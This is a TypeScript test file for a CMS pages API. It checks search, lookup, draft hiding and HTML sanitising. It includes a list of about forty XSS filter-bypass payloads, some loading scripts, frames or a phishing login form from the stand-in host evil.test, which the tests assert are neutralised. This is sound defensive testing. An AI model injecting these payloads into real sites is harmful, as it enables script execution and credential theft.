import { eq } from 'drizzle-orm';
import { cleanHtml } from '../../../lib/clean-html';
import { posts } from '../../../db/schema/site';
import { starterPages } from './starter-pages';
import { buildTestApp, type TestApp } from '../../../../tests/harness/build-test-app';

let app: TestApp;
beforeAll(async () => {
  app = await buildTestApp();
  const { save } = app.services.page;
  await save({ type: 'page', title: 'Terms', slug: 'terms-of-service', content: '<p>Be kind.</p>', ordering: 2 });
  await save({ type: 'post', title: 'News', slug: 'news', content: '<p>New.</p>', ordering: 1 });
  await app.context.db.insert(posts).values([
    { title: 'Draft', slug: 'draft', content: '', status: 'draft' },
    { title: 'Old', slug: 'old', ordering: 3, content: '<h2 onclick="x()">Hi</h2><script>alert(1)</script>' },
  ]);
});
afterAll(() => app.close());

const titles = async (query: object) =>
  (await app.call('listPosts', { query: { ...query } })).data.data.map((post) => post.title);

describe('GET /posts/search', () => {
  it('lists published pages in order, filtered by type and text', async () => {
    expect(await titles({})).toEqual(['News', 'Terms', 'Old']);
    expect(await titles({ type: 'post' })).toEqual(['News']);
    expect(await titles({ q: 'term' })).toEqual(['Terms']);
    expect(await titles({ sortBy: 'title', sort: 'asc' })).toEqual(['News', 'Old', 'Terms']);
    expect(await titles({ status: 'draft' })).toEqual([]);
  });
});

describe('GET /posts/:id', () => {
  const get = (id: string) => app.call('getPost', { params: { id } });

  it('finds a page by id or slug', async () => {
    const { data } = await get('terms-of-service');
    expect(data).toMatchObject({ title: 'Terms', type: 'page', content: '<p>Be kind.</p>' });
    expect((await get(data._id)).data.slug).toBe('terms-of-service');
  });

  it('hides drafts and unknown pages', async () => {
    expect((await get('draft')).status).toBe(404);
    expect((await get('nothing')).status).toBe(404);
  });

  it('cleans pages when they are read, however they were stored', async () => {
    expect((await get('old')).data.content).toBe('<h2>Hi</h2>');
  });
});

/** Known attacks on HTML filters. They must not run anything, load anything, or break out of the page. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.test">a</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.test/x.swf"></object><embed src="//evil.test">',
  '<form action="https://evil.test"><input name="password"><button>Log in</button></form>',
  '<base href="https://evil.test/"><link rel="stylesheet" href="//evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<style>@import "//evil.test/x.css"; body{display:none}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">a</p>',
  '<p id="__NEXT_DATA__" class="modal" data-x="1" onmouseover=alert(1)>a</p>',
  '<img name="getElementById"><a id="location">a</a>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p/onclick=alert(1)>a',
  '<xmp><img src=x onerror=alert(1)></xmp>',
];

function readMarkup(html: string): { elements: string[]; attributes: [string, string][] } {
  const elements: string[] = [];
  const attributes: [string, string][] = [];
  for (const [, name = '', rest = ''] of html.matchAll(/<([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/gi)) {
    elements.push(name);
    for (const [, key = '', value = ''] of rest.matchAll(/([^\s=/]+)="([^"]*)"/g)) attributes.push([key, value]);
  }
  return { elements, attributes };
}

describe('post.save', () => {
  it.each([
    ['<img src=x onerror=alert(1)>', '<img src="x" />'],
    ['<a href="javascript:alert(1)">a</a>', '<a rel="noopener noreferrer">a</a>'],
    ['<svg><script>alert(1)</script></svg><p style="x">ok</p>', '<p>ok</p>'],
    ['<iframe src="https://evil.test"></iframe><em>ok</em>', '<em>ok</em>'],
    ['<a href="//evil.test">a</a>', '<a rel="noopener noreferrer">a</a>'],
    [
      '<h2 id="top">Kept</h2><a href="/contact">a</a>',
      '<h2>Kept</h2><a href="/contact" rel="noopener noreferrer">a</a>',
    ],
  ])('cleans %s', async (content, clean) => {
    await app.services.page.save({ type: 'page', title: 'T', slug: 'trap', content }, { replace: true });
    const [stored] = await app.context.db.select().from(posts).where(eq(posts.slug, 'trap'));
    expect(stored?.content).toBe(clean);
  });

  // Promises F-4.
  it.each(attacks)('runs nothing of %j, whether it was saved here or stored in another way', async (attack) => {
    await app.services.page.save({ type: 'page', title: attack, slug: 'trap', content: attack }, { replace: true });
    const saved = (await app.call('getPost', { params: { id: 'trap' } })).data.content;
    await app.context.db.update(posts).set({ content: attack }).where(eq(posts.slug, 'trap'));
    const read = (await app.call('getPost', { params: { id: 'trap' } })).data.content;
    expect(read).toBe(saved);
    const { elements, attributes } = readMarkup(saved);
    expect(elements.filter((name) => !['p', 'a', 'img'].includes(name))).toEqual([]);
    expect(attributes.filter(([key]) => !['href', 'src', 'rel'].includes(key))).toEqual([]);
    const addresses = attributes.filter(([key]) => key !== 'rel').map(([, value]) => value);
    expect(addresses.filter((value) => /^\s*(\w+script|data|\/\/)/i.test(value))).toEqual([]);
    // The rest of a broken tag remains as text.
    expect(saved.replaceAll(/<\/?(p|a|img)\b[^>]*>/g, '')).not.toContain('<');
  });

  it('does not replace an existing page unless told to', async () => {
    const page = { type: 'page' as const, title: 'Mine', slug: 'terms-of-service', content: '' };
    expect(await app.services.page.save(page)).toBe(false);
    expect((await app.call('getPost', { params: { id: 'terms-of-service' } })).data.title).toBe('Terms');
  });
});

describe('the starter pages', () => {
  it('are six, built from plain elements that cleaning keeps', () => {
    expect(starterPages.map(({ slug }) => slug).toSorted()).toEqual([
      'about',
      'accessibility',
      'copyright',
      'help',
      'privacy-policy',
      'terms-of-service',
    ]);
    const names = ['p', 'h2', 'h3', 'ul', 'li', 'a', 'strong', 'em'];
    for (const { content } of starterPages) {
      for (const name of readMarkup(content).elements) expect(names).toContain(name);
      for (const name of names) {
        const opened = content.split(`<${name}>`).length + content.split(`<${name} `).length - 1;
        expect(opened).toBe(content.split(`</${name}>`).length);
      }
      expect(cleanHtml(content).replaceAll(' rel="noopener noreferrer"', '')).toBe(
        content.replaceAll(' rel="noopener noreferrer"', ''),
      );
    }
  });

  it('send readers to the buttons for refunds and cancellations, rather than to a letter within fourteen days', () => {
    const help = starterPages.find(({ slug }) => slug === 'help')?.content ?? '';
    expect(help).not.toContain('fourteen days');
    expect(help).toContain('press "Ask for a refund"');
    expect(help).toContain('press "Cancel order"');
    expect(help).toContain('It pays for posts, messages, orders, tickets, shows and tips');
    for (const link of ['/user/payment-history', '/user/purchased-content?view=receipts', '/user/orders'])
      expect(help).toContain(`<a href="${link}">`);
  });
});
